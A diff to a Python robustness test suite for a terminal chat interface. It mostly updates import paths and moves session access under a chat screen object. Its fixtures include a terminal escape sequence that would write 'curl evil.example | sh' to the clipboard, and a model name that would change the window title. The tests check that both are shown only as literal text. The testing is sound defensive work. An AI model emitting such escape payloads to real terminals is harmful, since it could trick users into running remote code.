@@ -36,7 +36,7 @@ from tests.robustness.helpers import (
 from tests.robustness.term import FakeTerminal
 from tui.engine.fake import FakeBackend
 from tui.store import Message, ModelRef, ReplyStats, Session, SessionStore
-from tui.widgets.message import MessageView
+from tui.widgets.message_view import MessageView
 
 CLIPBOARD_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
 OSC52 = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07"
@@ -71,7 +71,7 @@ async def test_a_hostile_reply_is_stored_exactly_and_shown_literally(
     async with app.run_test(size=(100, 30)) as pilot:
         await send(pilot, "say something nasty")
         await wait_replies(pilot, 1, timeout=30)
-        reply = app.session.messages[1]
+        reply = app.chat_screen.session.messages[1]
         assert reply.content == script  # stored exactly: the text is the user's data
         source = app.query(MessageView)[1].query_one(Markdown).source
         assert "␛]52;c;" + CLIPBOARD_PAYLOAD + "␇" in source  # ESC and BEL shown as pictures
@@ -98,14 +98,14 @@ async def test_a_one_megabyte_message_is_sent_saved_and_shown(make_app, sessions
         await send(pilot, big)
         await wait_replies(pilot, 1, timeout=60)
         took = time.perf_counter() - started
-        assert app.session.messages[0].content == big
-        reply = app.session.messages[1]
+        assert app.chat_screen.session.messages[0].content == big
+        reply = app.chat_screen.session.messages[1]
         assert reply.stats.stop_reason == "error" and "does not fit" in (reply.error or "")
         assert "does not fit" in str(app.query(MessageView)[1].meta.render())
         assert_frame_is_clean(app)
         await send(pilot, "and a short one")  # the chat goes on (old turns left out)
         await wait_replies(pilot, 2, timeout=60)
-        assert app.session.messages[3].content == "got it"
+        assert app.chat_screen.session.messages[3].content == "got it"
     saved = load_all(sessions_dir)[0].messages
     assert saved[0].content == big and saved[1].error == reply.error
     assert took < 30, f"sending 1 MB took {took:.1f} s"
@@ -168,7 +168,7 @@ async def test_a_hostile_model_name_from_a_session_file_never_reaches_the_termin
     path = SessionStore(sessions_dir).save(session)
     app = make_app(resume=str(path))
     async with app.run_test(size=(100, 30)) as pilot:
-        await wait_until(pilot, lambda: app.model_info is not None)
+        await wait_until(pilot, lambda: app.chat_screen.model_info is not None)
         await pilot.pause(0.1)
         assert "model␛]0;pwned␇" in screen_text(app)  # shown, as text
         assert_frame_is_clean(app)
